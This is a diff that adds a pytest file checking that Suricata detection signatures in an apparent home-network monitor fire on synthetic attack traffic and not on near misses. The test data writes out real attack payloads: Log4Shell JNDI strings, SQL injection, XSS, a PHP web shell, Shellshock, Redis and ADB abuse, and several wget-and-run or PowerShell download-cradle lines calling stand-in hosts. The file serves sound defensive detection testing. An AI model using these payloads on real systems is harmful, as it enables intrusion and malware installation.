@@ -1,0 +1,302 @@
+"""Each of Guardian's own signatures by capture: real Suricata fires on its hit and not on its near miss.
+
+All hits and near misses are one capture, each from an address of its own, so that Suricata
+starts once. A signature without a row here fails the test.
+"""
+
+# ruff: noqa: E501 - a row of the table stays on one line
+from __future__ import annotations
+
+import json
+import random
+import re
+import shutil
+import struct
+import zlib
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from scapy.layers.dns import DNS, DNSQR
+from scapy.layers.inet import ICMP, TCP, UDP
+from scapy.packet import Raw
+
+from guardian import resources
+from guardian.collect import suricata
+from guardian.collect.settings import Settings
+from guardian.lab.packets import Host, Wire
+from guardian.lab.tls import tls_client_hello
+from guardian.model.finding import FindingClass, Level
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+    from pathlib import Path
+
+pytestmark = pytest.mark.skipif(shutil.which("suricata") is None, reason="no Suricata here")
+
+START = 1_768_000_000.0
+BARE = "198.51.100.9"
+PE = b"MZ" + bytes(58) + struct.pack("<I", 128) + b"\x0e\x1f\xba\x0e\x00\xb4\tThis program cannot be run in DOS mode.\r\n$" + bytes(10) + b"PE\x00\x00" + bytes(300)  # fmt: skip
+ELF = b"\x7fELF\x01\x01\x01" + bytes(400)
+
+
+def http(
+    path: str = "/",
+    *,
+    host: str = "www.site.example",
+    method: str = "GET",
+    agent: str = "Mozilla/5.0",
+    headers: str = "",
+    body: bytes = b"",
+    answer: bytes = b"<html>hello</html>",
+    kind: str = "text/html",
+    port: int = 80,
+) -> Callable[[Wire, float, str], object]:
+    """Return a play of one request and its answer."""
+    length = f"Content-Length: {len(body)}\r\n" if body else ""
+    ask = (
+        f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n{headers}{length}\r\n"
+    )
+    reply = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(answer)}\r\n\r\n"
+    talk = [(">", ask.encode() + body), ("<", reply.encode() + answer)]
+    return lambda wire, when, client: wire.tcp(when, client, BARE, port, talk)
+
+
+def tcp(port: int, *talk: tuple[str, bytes]) -> Callable[[Wire, float, str], object]:
+    return lambda wire, when, client: wire.tcp(when, client, BARE, port, list(talk))
+
+
+def udp(port: int, data: bytes, times: int = 1) -> Callable[[Wire, float, str], object]:
+    def play(wire: Wire, when: float, client: str) -> None:
+        for n in range(times):
+            wire.udp(when + n, client, 40000 + n, BARE, port, data)
+
+    return play
+
+
+def ping(data: Callable[[int], bytes], times: int) -> Callable[[Wire, float, str], object]:
+    def play(wire: Wire, when: float, client: str) -> None:
+        for n in range(times):
+            packet = wire.ether(client, BARE) / ICMP(type=8, id=7, seq=n) / Raw(data(n))
+            wire.add(when + n, packet)
+
+    return play
+
+
+def flags(word: str) -> Callable[[Wire, float, str], object]:
+    def play(wire: Wire, when: float, client: str) -> None:
+        for n in range(3):
+            packet = wire.ether(client, BARE) / TCP(sport=40000, dport=20 + n, flags=word, seq=9)
+            wire.add(when + n / 10, packet)
+
+    return play
+
+
+def ask(name: str, kind: str | int = "A", times: int = 1) -> Callable[[Wire, float, str], object]:
+    def play(wire: Wire, when: float, client: str) -> None:
+        for n in range(times):
+            question = DNS(id=n + 1, rd=1, qd=DNSQR(qname=name.replace("#", str(n)), qtype=kind))
+            packet = wire.ether(client, BARE) / UDP(sport=41000 + n, dport=53) / question
+            wire.add(when + n, packet)
+
+    return play
+
+
+def hello(sni: str) -> Callable[[Wire, float, str], object]:
+    data = tls_client_hello(random.Random(1), sni, (0x1301,), ())
+    return tcp(443, (">", data))
+
+
+def smb1(command: bytes, body: bytes, *, status: bytes = bytes(4)) -> bytes:
+    packet = b"\xffSMB" + command + status + body
+    return struct.pack(">I", len(packet)) + packet
+
+
+def noise(n: int) -> bytes:
+    return random.Random(n).randbytes(600)
+
+
+PIPE = "\\PIPE\\".encode("utf-16-le")
+ETERNAL = smb1(b"\x33", bytes(30) + b"A" * 64)
+TRANS = smb1(b"\x25", bytes(20) + b"\x23\x00\x00\x00\x07\x00" + PIPE + b"\x00")
+STRATUM = b'{"id":1,"method":"mining.subscribe","params":["x/1.0"]}\n'
+SOAP = (
+    b'<?xml version="1.0"?><s:Envelope><s:Body><u:AddPortMapping xmlns:u="urn:x">'
+    b"<NewInternalPort>445</NewInternalPort></u:AddPortMapping></s:Body></s:Envelope>"
+)
+CRADLE = b"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/b')"
+GHOST = b"Gh0st" + struct.pack("<II", 60, 100) + zlib.compress(b"x" * 100)
+BARE_HOST: dict[str, Any] = {"host": BARE}
+
+TABLE: dict[int, tuple[Callable[[Wire, float, str], object], Callable[[Wire, float, str], object]]] = {
+    9000101: (flags(""), flags("S")),
+    9000102: (flags("F"), flags("FA")),
+    9000103: (flags("FPU"), flags("PA")),
+    9000201: (http("/?x=${jndi:ldap://a.example/b}"), http("/?x=jndi:ldap")),
+    9000202: (http(headers="X-Api: ${jndi:ldap://a.example/b}\r\n"), http(headers="X-Api: jndi\r\n")),
+    9000203: (http(method="POST", body=b"u=${jndi:rmi://a.example/b}"), http(method="POST", body=b"u=jndi:rmi")),
+    9000204: (http("/?x=${${lower:j}ndi:${lower:l}dap://a.example/b}"), http("/?price=${total}")),
+    9000205: (http(headers="X-A: ${${env:NOPE:-j}ndi:ldap://a.example/b}\r\n"), http(headers="X-A: ${name}\r\n")),
+    9000206: (tcp(25565, (">", b"\x10chat ${jndi:ldap://a.example/b}")), tcp(25565, (">", b"\x10chat jndi:ldap"))),
+    9000207: (http("/Exploit.class", agent="Java/1.8.0_181", **BARE_HOST), http("/Exploit.class", agent="Java/1.8.0_181")),
+    9000210: (http("/f?n=../../../../boot.ini"), http("/a/../b")),
+    9000211: (http("/f?n=/etc/passwd"), http("/etc/password-help")),
+    9000212: (http("/ping?h=1;wget%20http://198.51.100.1/x"), http("/shop;jsessionid=1?cat=2")),
+    9000213: (http(method="POST", body=b"h=1;wget http://198.51.100.1/x.sh"), http(method="POST", body=b"h=1;see wget manual")),
+    9000214: (http("/i?id=1%20union%20select%20user,pass"), http("/search?q=credit%20union%20selection")),
+    9000215: (http("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), http("/s?q=typescript")),
+    9000216: (http("/i.php?f=php://input"), http("/i.php?f=phpinput")),
+    9000217: (http(method="POST", body=b"c=<?php system('id'); ?>"), http(method="POST", body=b"c=php system")),
+    9000218: (http(headers="Referer: () { :; }; /bin/id\r\n"), http(headers="Referer: f() { }\r\n")),
+    9000219: (http(headers="Content-Type: %{(#_memberAccess['x'])}\r\n"), http(headers="X-Size: 100%{a}\r\n")),
+    9000220: (http("/GponForm/diag_Form?images/", method="POST", body=b"x=1"), http("/forms/diagnosis")),
+    9000221: (http(agent="sqlmap/1.7"), http(agent="SquidMap/1.7")),
+    9000222: (http("/i.php?p=http://a.example/shell.txt?"), http("/i.php?back=http://a.example/home")),
+    9000230: (tcp(445, (">", ETERNAL)), tcp(445, (">", smb1(b"\x33", bytes(30) + b"AB" * 32)))),
+    9000231: (
+        tcp(445, (">", smb1(b"\xa0", bytes(20) + b"\x01" + bytes(6) + bytes(20) + b"\x00\xd0" + bytes(20)))),
+        tcp(445, (">", smb1(b"\xa0", bytes(20) + b"\x01" + bytes(60)))),
+    ),
+    9000232: (tcp(445, (">", smb1(b"\x75", bytes(30) + b"__USERID__PLACEHOLDER__"))), tcp(445, (">", smb1(b"\x75", bytes(30) + b"userid")))),
+    9000233: (
+        tcp(445, (">", smb1(b"\x32", bytes(56) + b"\x0e\x00" + bytes(20)))),
+        tcp(445, (">", smb1(b"\x32", bytes(56) + b"\x05\x00" + bytes(20)))),
+    ),
+    9000234: (
+        tcp(445, (">", smb1(b"\x32", bytes(40))), ("<", smb1(b"\x32", bytes(21) + b"\x51\x00" + bytes(9), status=b"\x02\x00\x00\xc0"))),
+        tcp(445, (">", smb1(b"\x32", bytes(40))), ("<", smb1(b"\x32", bytes(21) + b"\x41\x00" + bytes(9), status=b"\x02\x00\x00\xc0"))),
+    ),
+    9000235: (tcp(445, (">", TRANS)), tcp(445, (">", smb1(b"\x25", bytes(20) + b"\x26\x00\x00\x00\x07\x00" + PIPE)))),
+    9000301: (http("/a.bin", answer=PE, kind="application/octet-stream", **BARE_HOST), http("/a.bin", answer=PE[2:], **BARE_HOST)),
+    9000302: (http("/a.arm", answer=ELF, kind="application/octet-stream", **BARE_HOST), http("/a.arm", answer=ELF)),
+    9000303: (http("/a.png", answer=PE, kind="image/png"), http("/a.exe", answer=PE, kind="application/octet-stream")),
+    9000304: (
+        http("/x", answer=b"#!/bin/sh\nwget http://198.51.100.9/b; chmod 777 b; sh b\n", kind="text/plain", **BARE_HOST),
+        http("/x", answer=b"#!/bin/sh\necho hello\n", kind="text/plain", **BARE_HOST),
+    ),
+    9000305: (http("/setup.exe", answer=PE, kind="application/octet-stream"), http("/setup.zip", answer=b"PK\x03\x04" + bytes(300))),
+    9000306: (http("/a.ps1", agent="Mozilla/5.0 (Windows NT) WindowsPowerShell/5.1", **BARE_HOST), http("/a.ps1", agent="WindowsPowerShell/5.1")),
+    9000310: (
+        tcp(4444, (">", b"Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft\r\nC:\\>")),
+        tcp(4444, (">", b"I run Microsoft Windows at home")),
+    ),
+    9000311: (tcp(4444, ("<", b"id\n"), (">", b"uid=0(root) gid=0(root) groups=0(root)\n")), tcp(4444, (">", b"uid=1000 gid=1000\n"))),
+    9000312: (http("/c?x=1", answer=b"<pre>uid=33(www-data) gid=33(www-data)</pre>"), http("/c?x=1", answer=b"<pre>uid=33</pre>")),
+    9000320: (ping(noise, 15), ping(lambda _n: b"abcdefghijklmnopqrstuvwabcdefghi" * 20, 15)),
+    9000321: (ping(lambda _n: b"SSH-2.0-OpenSSH_9.2\r\n", 1), ping(lambda _n: b"abcdefghijklmnopqrstuvw", 1)),
+    9000330: (ask("dnscat.0011223344556677.example"), ask("dns.cat-pictures.example")),
+    9000331: (ask("a#bcdefgh.t.example", 10, 12), ask("a#bcdefgh.t.example", "A", 12)),
+    9000340: (tcp(4444, (">", b"x"), ("<", struct.pack("<I", len(PE)) + PE)), tcp(4444, (">", b"x"), ("<", bytes(40) + b"MZ is a prefix"))),
+    9000341: (http("/s", answer=CRADLE, kind="text/plain"), http("/s", answer=CRADLE, kind="text/html")),
+    9000342: (tcp(8000, (">", GHOST)), tcp(8000, (">", b"HELLO" + bytes(8) + b"xx"))),
+    9000343: (tcp(5552, (">", b"149\x00ll|'|'|SGFjS2Vk|'|'|PC|'|'|user")), tcp(5552, (">", b"all|it|is|'|'|text"))),
+    9000344: (tcp(23, ("<", b"login: "), (">", b"enable\r\nsh\r\n/bin/busybox MIRAI\r\n")), tcp(23, ("<", b"login: "), (">", b"/bin/busybox ls -l\r\n"))),
+    9000345: (
+        tcp(23, ("<", b"# "), (">", b"cd /tmp; wget http://198.51.100.1/b; chmod 777 b; ./b\r\n")),
+        tcp(23, ("<", b"# "), (">", b"chmod 644 notes; wget --help\r\n")),
+    ),
+    9000346: (
+        tcp(5555, (">", b"OPEN" + bytes(20) + b"shell:cd /data/local/tmp/; wget http://198.51.100.1/w.sh\x00")),
+        tcp(5555, (">", b"OPEN" + bytes(20) + b"shell:getprop ro.product.model\x00")),
+    ),
+    9000347: (
+        tcp(6379, (">", b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n")),
+        tcp(6379, (">", b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n")),
+    ),
+    9000401: (tcp(3333, (">", STRATUM)), tcp(3333, (">", b'{"id":1,"method":"mining_news.list"}\n'))),
+    9000402: (
+        tcp(3333, (">", b"{}\n"), ("<", b'{"id":null,"method":"mining.notify","params":[]}\n')),
+        tcp(3333, (">", b"{}\n"), ("<", b'{"id":null,"method":"notify","params":[]}\n')),
+    ),
+    9000403: (tcp(8333, (">", b"\xf9\xbe\xb4\xd9version" + bytes(5) + bytes(80))), tcp(8333, (">", b"\xf9\xbe\xb4\xd9verack" + bytes(6)))),
+    9000404: (
+        tcp(8332, (">", b'{"id":1,"method":"getblocktemplate","params":[]}\n')),
+        tcp(8332, (">", b'{"id":1,"method":"getblockcount","params":[]}\n')),
+    ),
+    9000410: (hello("www.abcdefghij234567.com"), hello("www.shop-of-mine.example")),
+    9000411: (ask("abcdefghij234567.onion"), ask("onions.example")),
+    9000420: (http("/admin", headers="Authorization: Basic dXNlcjpwYXNzd29yZA==\r\n"), http("/admin", headers="Authorization: Digest x\r\n")),
+    9000421: (
+        tcp(110, ("<", b"+OK ready\r\n"), (">", b"USER anna\r\n"), ("<", b"+OK\r\n"), (">", b"PASS secret1\r\n")),
+        tcp(110, ("<", b"+OK ready\r\n"), (">", b"CAPA\r\n"), ("<", b"+OK\r\nSTLS\r\n.\r\n"), (">", b"STLS\r\n")),
+    ),
+    9000422: (
+        tcp(1883, (">", b"\x10\x20\x00\x04MQTT\x04\xc2\x00\x3c\x00\x02ab\x00\x04user\x00\x0asecretpass")),
+        tcp(1883, (">", b"\x10\x0e\x00\x04MQTT\x04\x02\x00\x3c\x00\x02ab")),
+    ),
+    9000424: (tcp(23, (">", b"\xff\xfd\x18"), ("<", b"\r\nrouter login: ")), tcp(23, (">", b"\xff\xfd\x18"), ("<", b"\r\nmenu: "))),
+    9000425: (
+        http("/do", method="POST", body=b"user=anna&password=secret1", headers="Content-Type: application/x-www-form-urlencoded\r\n"),
+        http("/do", method="POST", body=b"user=anna&passage=long", headers="Content-Type: application/x-www-form-urlencoded\r\n"),
+    ),
+    9000430: (
+        http("/ctl/IPConn", method="POST", body=SOAP, headers="Content-Type: text/xml\r\n", port=5000),
+        http("/ctl/IPConn", method="POST", body=SOAP.replace(b"Add", b"Get"), headers="Content-Type: text/xml\r\n", port=5000),
+    ),
+    9000431: (udp(5351, b"\x00\x02\x00\x00" + struct.pack(">HHI", 445, 445, 7200)), udp(5351, b"\x00\x00")),
+    9000432: (udp(5351, b"\x02\x01" + bytes(58)), udp(5351, b"\x02\x00" + bytes(22))),
+}  # fmt: skip
+"""Signature, its hit and its near miss."""
+
+SILENT = frozenset({9000300})
+"""Only sets a flow bit that others ask for; their hits and near misses are its own."""
+
+
+def _signatures() -> dict[int, str]:
+    lines = [
+        line
+        for path in sorted(resources.path("rules/suricata").glob("*.rules"))
+        for line in path.read_text(encoding="utf-8").splitlines()
+        if line.startswith("alert ")
+    ]
+    return {int(re.search(r"\bsid:(\d+);", line)[1]): line for line in lines}  # type: ignore[index]
+
+
+def _client(number: int, *, near: bool) -> str:
+    return f"10.{20 + near}.{number // 200}.{number % 200 + 1}"
+
+
+@pytest.fixture(scope="module")
+def fired(tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[int]]:
+    """The signatures that fired, by the address of each conversation's client."""
+    folder: Path = tmp_path_factory.mktemp("signatures")
+    gateway = Host(name="gw", mac="02:00:00:00:00:01", ip="10.0.0.1")
+    wire = Wire(gateway=gateway, home={}, seed=1)
+    clients = []
+    for number, (hit, near_miss) in enumerate(TABLE.values()):
+        for near, play in ((False, hit), (True, near_miss)):
+            clients.append(_client(number, near=near))
+            play(wire, START + 40 * number + 20 * near, clients[-1])
+    capture = folder / "signatures.pcap"
+    capture.write_bytes(wire.pcap())
+    found: dict[str, set[int]] = {client: set() for client in clients}
+    eve = suricata.make_eve(capture, folder, Settings())
+    for line in eve.read_text(encoding="utf-8").splitlines():
+        event = json.loads(line)
+        if event["event_type"] == "alert":
+            for side in (event["src_ip"], event["dest_ip"]):
+                if side in found:
+                    found[side].add(event["alert"]["signature_id"])
+    return found
+
+
+def test_every_signature_has_a_capture() -> None:
+    assert set(_signatures()) - SILENT == set(TABLE)
+
+
+@pytest.mark.parametrize(("number", "sid"), list(enumerate(TABLE)))
+def test_it_fires_on_its_hit_alone(number: int, sid: int, fired: dict[str, set[int]]) -> None:
+    assert sid in fired[_client(number, near=False)], "the hit was not seen"
+    assert sid not in fired[_client(number, near=True)], "the near miss was taken for it"
+
+
+def test_the_metadata_is_complete() -> None:
+    for sid, line in _signatures().items():
+        assert 9_000_101 <= sid <= 9_000_499, sid
+        assert re.search(r"\brev:\d+;", line), sid
+        assert re.search(r"\bclasstype:[a-z-]+;", line), sid
+        assert re.search(r'msg:"GUARDIAN [a-z ]+: [^"]+"', line), sid
+        words = dict(re.findall(r"(guardian_\w+) (\w+)", line))
+        if words.get("guardian_use") != "evidence":
+            FindingClass(words["guardian_class"])
+            Level(words["guardian_level"])
+            assert "reference:" in line, f"{sid} does not say where to read on"
